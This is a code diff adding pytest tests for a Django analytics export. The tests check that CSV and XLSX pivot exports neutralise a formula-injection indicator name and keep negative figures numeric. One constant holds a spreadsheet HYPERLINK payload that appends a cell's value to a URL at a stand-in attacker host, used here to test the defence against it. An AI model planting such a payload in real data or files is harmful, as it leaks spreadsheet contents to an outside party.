@@ -392,3 +392,58 @@ def test_last_takes_each_communes_latest_report_whole_so_splits_add_up(people, t
         assert {r.keys["DU_AN"]: r.value for r in split.rows if r.keys["ou"] == ou} == {
             "DA1": Decimal(400)
         }
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'
+
+
+def indicator_rename(people, code: str, name: str) -> None:
+    from dantoc.indicators.models import Indicator
+    from dantoc.indicators.services import indicator_save
+
+    indicator = Indicator.objects.get(code=code)
+    indicator.name = name
+    indicator_save(
+        actor=people.ministry, indicator=indicator, categories=list(indicator.categories.all())
+    )
+
+
+@pytest.fixture
+def negative(people, today, von, q3):
+    """Lũng Cú entered a negative plan (a correction, -500 + 300; the form's rules stop it
+    at submission, so it stays unapproved) under an indicator whose name is a formula."""
+    indicator_rename(people, "VON_KH", HYPERLINK)
+    enter(people.commune, von, q3, {"VON_KH/DA1/DTPT/TW": "-500", "VON_KH/DA2/SN/DP": "300"})
+    return q3
+
+
+def test_pivot_exports_keep_a_formula_name_as_text_and_negative_figures_as_numbers(
+    login, people, negative
+):
+    client = login(people.province)
+    params = {"dx": ["VON_KH"], "pe": "2026Q3", "unit": "08", "scope": "communes", "all": "1"}
+    text = client.get("/analytics/pivot/", {**params, "format": "csv"}).content.decode("utf-8-sig")
+    rows = [r for r in csv.reader(io.StringIO(text)) if r]
+    assert rows[0][2].startswith("'" + HYPERLINK)
+    assert not any(cell[:1] and cell[0] in "=+@" for row in rows for cell in row)
+    found = {r[0]: r for r in rows}
+    assert found["00715"][2] == "-200"  # a number a spreadsheet adds up, not text
+    xlsx = client.get("/analytics/pivot/", {**params, "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    header = sheet.cell(row=1, column=3)
+    assert header.data_type == "s" and header.value.startswith("=HYPERLINK(")
+    assert header.quotePrefix is True
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    lines = {row[0].value: row for row in sheet.iter_rows() if row and row[0].value}
+    assert lines["00715"][2].value == -200 and lines["00715"][2].data_type == "n"
+
+
+def test_analytics_csv_writes_a_negative_figure_as_a_number(login, people, negative):
+    response = login(people.province).get(
+        API + ".csv",
+        {"dimension": ["dx:VON_KH", "pe:2026Q3", "ou:00715"], "includeUnapproved": "true"},
+    )
+    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
+        ["dx", "pe", "ou", "value", "unapproved"],
+        ["VON_KH", "2026Q3", "00715", "-200", "true"],
+    ]
